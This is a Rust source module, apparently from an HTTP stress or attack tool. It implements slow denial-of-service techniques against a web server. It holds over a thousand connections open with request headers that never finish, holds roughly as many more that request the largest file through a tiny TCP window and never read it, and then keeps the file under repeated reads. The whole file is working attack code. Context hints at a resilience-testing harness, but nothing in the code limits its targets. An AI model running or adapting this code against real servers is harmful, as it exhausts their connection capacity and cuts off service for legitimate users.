//! Plain connections that are held: heads that never end, and files that nobody reads.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{MissedTickBehavior, interval, sleep, timeout};

use super::attack::{Attack, crowd};
use super::largest::largest;
use super::plain::Plain;
use crate::error::ClientError;

/// Heads that are begun and not finished.
const HEADS: usize = 1_050;
/// Connections that ask for the largest file and do not read it.
const UNREAD: usize = 1_042;
/// Requests for it in a second that are read, and over how many connections.
const READ_PER_SECOND: usize = 80;
const READERS: usize = 16;
/// The smallest window that the system gives: the rest stays with the server.
const WINDOW: u32 = 4096;
/// How often a held connection is tried.
const LOOK: Duration = Duration::from_secs(1);

pub(super) async fn run(attack: Arc<Attack>) {
    let path = largest(&attack.server).await;
    let host = attack.server.address;
    let head = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n");
    let whole = format!("{head}\r\n");
    // One way after the other, a third of the time each: together the cheapest would win.
    let part = attack.time / 3;
    let heads = crowd(attack.many(HEADS), |_| half_sent(attack.clone(), head.clone()));
    let _ = timeout(part, heads).await;
    let unread = crowd(attack.many(UNREAD), |_| unread(attack.clone(), whole.clone()));
    let _ = timeout(part, unread).await;
    crowd(READERS, |_| read(attack.clone(), path.clone())).await;
}

/// Begins a head, waits until the server has enough of it, and begins another.
async fn half_sent(attack: Arc<Attack>, half: String) {
    loop {
        let Some(mut stream) = attack.tried(begun(&attack, &half, None)).await else { continue };
        let mut answer = [0; 512];
        while stream.read(&mut answer).await.is_ok_and(|count| count > 0) {}
        attack.tally.closed();
        sleep(LOOK / 10).await;
    }
}

/// Asks for a file and does not read it, until the server has enough of it.
async fn unread(attack: Arc<Attack>, whole: String) {
    loop {
        let asked = begun(&attack, &whole, Some(WINDOW));
        let Some(mut stream) = attack.tried(asked).await else { continue };
        // The beginning of another request, a letter at a time, shows whether anybody is there.
        while stream.write_all(b"G").await.is_ok() {
            sleep(LOOK).await;
        }
        attack.tally.closed();
    }
}

async fn begun(attack: &Attack, text: &str, window: Option<u32>) -> Result<TcpStream, ClientError> {
    let mut stream = attack.dial(attack.server.from, window).await?;
    stream.write_all(text.as_bytes()).await?;
    Ok(stream)
}

/// Reads a file again and again, at a share of the rate.
async fn read(attack: Arc<Attack>, path: String) {
    let rate = attack.many(READ_PER_SECOND) as f64 / READERS as f64;
    let mut ticks = interval(Duration::from_secs_f64(1.0 / rate));
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let mut plain = Plain::new(attack);
    loop {
        ticks.tick().await;
        plain.ask("GET", &path, "").await;
    }
}
